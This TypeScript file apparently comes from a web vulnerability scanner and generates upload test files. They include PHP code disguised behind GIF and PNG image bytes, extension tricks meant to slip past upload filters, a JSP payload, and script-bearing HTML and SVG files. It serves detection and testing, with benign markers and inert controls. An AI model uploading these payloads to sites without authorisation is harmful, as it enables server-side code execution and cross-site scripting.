import type { Surface } from '../../model/surface.ts';
import { textOfBytes } from '../../model/wire-bytes.ts';
import type { UploadedFile } from '../inputs/input-request.ts';

/** A file that does something where it is kept, and shows that it did; the same file without what makes it do so. */
export type ActiveFile = {
  file: UploadedFile;
  inert: UploadedFile;
  /** Run by the server, with what its page shows then; or opened as a page of the site, which opens a dialog. */
  effect: { runs: string } | 'opens';
  /** What was seen, in words. */
  detail: string;
};

/** Its name distinguishes it from what others have sent. */
const name = '‹nonce3›';
/** Some sites look at the type that the browser says: of photos, which every list of types has. */
const photo = 'image/jpeg';
const bytes = (base64: string): string => textOfBytes(Buffer.from(base64, 'base64'));
/** Pictures of one point, for sites that look at what is in a file; programs that show them skip what stands behind. */
const pictures = {
  gif: bytes('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'),
  png: bytes('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
};

type Code = { language: string; write(begin: string): string };

const run = (ending: string, { language, write }: Code, picture = pictures.gif): ActiveFile => {
  const file = (begin: string): UploadedFile => ({
    ...{ name: `${name}.${ending}`, type: photo },
    content: `${picture}‹nonce›${write(begin)}‹nonce2›`,
  });
  return {
    file: file('?'),
    inert: file('q'),
    effect: { runs: '‹nonce›‹product:int:int2›‹nonce2›' },
    detail: `The server runs a file that ends in ".${ending}" as ${language}.`,
  };
};

/** The short form of a print, which filters of "<?php" do not know. */
const php: Code = { language: 'PHP', write: (begin) => `<${begin}=‹int›*‹int2›?>` };
/** What is run, what lists of refused endings forget, what has the endings of pictures somewhere, what ends in one, and what is one when "php" is taken out of it, once. */
const phpFiles = [
  ...['php', 'jpg.png.gif.php', 'phtml', 'php.jpg', 'jpg.png.gif.phtml', 'phar', 'pphphp', 'p.phphp'].map((ending) =>
    run(ending, php),
  ),
  ...['php', 'jpg.png.php'].map((ending) => run(ending, php, pictures.png)),
];
const jsp = run('jsp', { language: 'JSP', write: (begin) => `<${begin.replace('?', '%')}= ‹int›*‹int2› %>` });

const opened = (ending: string, type: string, write: (script: string) => string): ActiveFile => {
  const file = (script: string): UploadedFile => ({ name: `${name}.${ending}`, type, content: write(script) });
  return {
    file: file("alert('‹nonce›')"),
    inert: file("void '‹nonce›'"),
    effect: 'opens',
    detail: `A file that ends in ".${ending}" is opened as a page of the site, and its script is run.`,
  };
};

const html = opened('html', 'text/html', (script) => `<!doctype html><title>a</title><script>${script}</script>`);
const svg = opened(
  'svg',
  'image/svg+xml',
  (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
);

/** Where the element of a script is taken for the only way. */
const loaded = opened(
  'svg',
  'image/svg+xml',
  (script) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><path d="M0 0h8v8z"/></svg>`,
);

/** Files to try, by what the site seems to be made with. */
export function filesFor({ pages }: Surface): ActiveFile[] {
  const isOf = (path: RegExp, header: RegExp): boolean =>
    pages.some(
      ({ url, headers, setCookies }) =>
        path.test(new URL(url).pathname) ||
        setCookies.some((cookie) => header.test(cookie)) ||
        headers.some(([field, value]) => /^(?:x-powered-by|server)$/i.test(field) && header.test(value)),
    );
  if (isOf(/\.php\d?(?:\/|$)/i, /\bphp/i)) return [...phpFiles, svg, loaded, html];
  if (isOf(/\.(?:jspx?|do)(?:;|$)/i, /\b(?:jsp|servlet|jsessionid|tomcat|jetty)/i)) return [jsp, svg, loaded, html];
  return [html, svg, loaded];
}
